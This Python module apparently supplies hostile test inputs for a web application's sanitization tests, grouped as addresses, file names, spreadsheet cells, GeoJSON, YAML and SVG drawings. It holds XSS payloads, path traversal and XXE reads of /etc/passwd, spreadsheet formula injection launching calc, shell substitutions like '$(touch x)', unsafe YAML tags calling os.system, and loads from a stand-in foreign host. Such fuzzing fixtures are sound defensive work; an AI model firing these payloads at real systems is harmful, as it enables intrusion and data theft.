"""Hostile values by class: addresses, names, cells, geometry, YAML, drawings."""

from corpus_texts import FOREIGN, RUN

# --- Addresses in heads ---------------------------------------------------------------------------

ADDRESSES = (
    f"javascript:{RUN}",
    f"JAVASCRIPT:{RUN}",
    f" javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"javascript&colon;{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "vbscript:msgbox",
    "file:///etc/passwd",
    "ftp://fremd.example/",
    "//fremd.example/",
    "\\\\fremd.example",
    "/\\fremd.example",
    "https:/fremd.example",
    "https://",
    "https:// fremd.example",
    "https://amt.example@fremd.example/",
    'https://amt.example/" onmouseover="window.__pwned=1',
    "https://amt.example/'><script>window.__pwned=1</script>",
    "https://amt.example/\u202egpj.exe",
    "https://amt.example/\u200b",
    "https://amt.example/\x7f",
    "https://-amt.example/",
    "https://amt.example:99999999/",
    "HTTPS:javascript:window.__pwned=1",
    "feed:javascript:window.__pwned=1",
    "jar:https://fremd.example!/",
    "about:blank",
)
MENU = (
    f"javascript:{RUN}",
    "//fremd.example/",
    "/\\fremd.example/",
    "https://fremd.example/",
    "/../../etc/passwd",
    "data:text/html,x",
    '/" onmouseover="window.__pwned=1',
)

# --- Names of files and keys ----------------------------------------------------------------------

FILE_NAMES = (
    "<script>alert(1)<",
    '" onmouseover="window.__pwned=1',
    "' onload='x",
    "javascript:alert(1)",
    "..",
    "...",
    "a b",
    "ä",
    "A",
    "a\nb",
    "a\r::error::x",
    "a\tb",
    "\u202egpj",
    "a;b",
    "a%2fb",
    "a%00b",
    "con|x",
    "$(touch x)",
    "`id`",
    "-rf",
    "a?b#c",
    "a&b",
    "x" * 150,
    "{{ 7*7 }}",
    "\U0001f600",
    "a:b,c=d",
)
KEYS = (
    "../../../boese",
    "<script>",
    '" onclick="x',
    "a/b",
    "..",
    "A B",
    "javascript:x",
    "a\nb",
    "x" * 101,
    "ä",
)

# --- Cells and geometry ---------------------------------------------------------------------------

CELLS = (
    "=1+1",
    "+1",
    "@SUM(A1)",
    "-1+cmd|' /C calc'!A0",
    "<script>window.__pwned=1</script>",
    '"><img src=x onerror=window.__pwned=1>',
    "1e999",
    "1" * 400,
    "0," + "1" * 400,
    "NaN",
    "Infinity",
    "-Infinity",
    "0x10",
    "1_000",
    "\u0661\u0662",
    "1.000,5",
    "\u202e12",
    "1\x00",
    "",
    "1;2",
)
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://fremd.example?"&A1)',
    "\t=1+1",
    "\r=1+1",
    "-2+3+cmd|' /C calc'!A0",
)
GEOJSON = (
    "",
    "[]",
    "null",
    "[" * 100_000,
    '{"a":' * 100_000,
    '{"type":"FeatureCollection","features":' + "9" * 5_000 + "}",
    '{"type":"FeatureCollection","features":[NaN, Infinity]}',
    '{"type":"FeatureCollection","features":{"0":1}}',
    '{"type":"FeatureCollection","features":[{"properties":{"ags":["01099001"]}}]}',
    '{"type":"FeatureCollection","features":[{"properties":{"ags":"<script>alert(1)</script>"}}]}',
    *(
        '{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"ags":"01099001"},'
        f'"geometry":{{"type":"Polygon","coordinates":{coordinates}}}}}]}}'
        for coordinates in (
            "[[[1e999,1],[2,2],[3,3],[1e999,1]]]",
            "[[[" + "9" * 400 + ",1],[2,2],[3,3],[1,1]]]",
            "[[[NaN,1],[2,2],[3,3],[NaN,1]]]",
            '[[["<script>",1],[2,2],[3,3],[1,1]]]',
            "[[[1,2,3,4],[2,2],[3,3],[1,1]]]",
            "[[null]]",
            "[[[]]]",
            "[" * 500 + "]" * 500,
            '"javascript:window.__pwned=1"',
            "true",
        )
    ),
)
YAML = (
    "titel: " + "[" * 100_000,
    "titel: " + "{a: " * 100_000,
    "- " * 100_000,
    "? " * 100_000,
    "titel: &a [*a]",
    "a: &a [x,x,x]\nb: &b [*a,*a,*a]\nc: [*b,*b,*b]",
    "titel: !!python/object/apply:os.system ['touch x']",
    "titel: !!python/name:os.system",
    "<<: {titel: x}",
    "titel: x\ntitel: y",
    'titel: "\\x00"',
    "%TAG ! tag:fremd.example,2000:\n--- !x y",
    "\ufeff\ufefftitel: x",
    "titel: " + "9" * 10_000 + "\njahr: " + "9" * 10_000,
    "geaendert: 99999-99-99",
    "reihenfolge: 1e999",
    'titel: "a\\r\\n::add-mask::x"',
    'titel: "a\\e[2Jb"',
)

# --- Drawings -------------------------------------------------------------------------------------

XHTML = "http://www.w3.org/1999/xhtml"
_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
    'viewBox="0 0 40 40">{}</svg>'
)
DRAWINGS = (
    *(
        _SVG.format(inner)
        for inner in (
            f"<script>{RUN}</script>",
            f"<script href='{FOREIGN}/x.js'/>",
            f"<rect onload='{RUN}'/>",
            f"<rect onLoad='{RUN}'/>",
            f"<g onclick='{RUN}'/>",
            f"<a href='javascript:{RUN}'><rect width='40' height='40'/></a>",
            f"<a xlink:href='{FOREIGN}'><rect width='40' height='40'/></a>",
            f"<use href='{FOREIGN}/x.svg#a'/>",
            "<use xlink:href='data:image/svg+xml,x#a'/>",
            f"<image href='{FOREIGN}/z.gif' width='9' height='9'/>",
            "<image xlink:href='data:image/svg+xml;base64,PHN2Zy8+'/>",
            f"<foreignObject><body xmlns='{XHTML}' onload='{RUN}'/></foreignObject>",
            f"<animate attributeName='href' values='javascript:{RUN}'/>",
            f"<set attributeName='onmouseover' to='{RUN}'/>",
            f"<animateTransform onbegin='{RUN}' attributeName='transform'/>",
            f"<handler type='application/ecmascript'>{RUN}</handler>",
            f"<style>@import url({FOREIGN}/x.css);</style>",
            f"<style>rect{{fill:url({FOREIGN}/x.svg#a)}}</style>",
            f"<style>rect{{fill:u\\72l({FOREIGN}/x)}}</style>",
            "<style>rect{background:image-set('https://fremd.example/x' 1x)}</style>",
            f"<style><![CDATA[</style><script>{RUN}</script>]]></style>",
            f"<rect style='fill:url({FOREIGN}/x#a)'/>",
            f"<rect fill='url({FOREIGN}/x#a)'/>",
            f"<rect filter='url({FOREIGN}/x#a)' style='behavior:url(x)'/>",
            f"<filter><feImage href='{FOREIGN}/x.png'/></filter>",
            f"<iframe xmlns='{XHTML}' src='javascript:{RUN}'/>",
            f"<x:script xmlns:x='{XHTML}'>{RUN}</x:script>",
            f"<x:script xmlns:x='http://www.w3.org/2000/svg'>{RUN}</x:script>",
            f"<metadata><script>{RUN}</script></metadata>",
            f"<!-- --><script>{RUN}</script>",
            f"<text>&lt;script&gt;{RUN}&lt;/script&gt;</text>",
            f"<title>&lt;img src=x onerror={RUN}&gt;</title>",
            f"<desc class='\"&gt;&lt;script&gt;{RUN}'>x</desc>",
            "<rect width='40' height='40' fill='url(#a)' id='&quot;&gt;&lt;script&gt;'/>",
            "<g>" * 200 + "</g>" * 200,
            f"<mpath xlink:href='{FOREIGN}'/>",
            f"<rect xml:base='javascript:{RUN}' width='9' height='9'/>",
            f"<rect data-x='{RUN}' ev:event='x' xmlns:ev='http://www.w3.org/2001/xml-events'/>",
        )
    ),
    '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + _SVG.format("<text>&x;</text>"),
    '<!DOCTYPE svg [<!ENTITY a "x"><!ENTITY b "&a;&a;&a;&a;">]>' + _SVG.format("<text>&b;</text>"),
    '<!DOCTYPE svg PUBLIC "-//W3C//DTD" "https://fremd.example/x.dtd">' + _SVG.format(""),
    f'<?xml-stylesheet href="{FOREIGN}/x.xsl" type="text/xsl"?>' + _SVG.format("<rect/>"),
    f"<html><script>{RUN}</script></html>",
    "<svg>",
    "GIF89a/*<svg/onload=window.__pwned=1>*/",
)
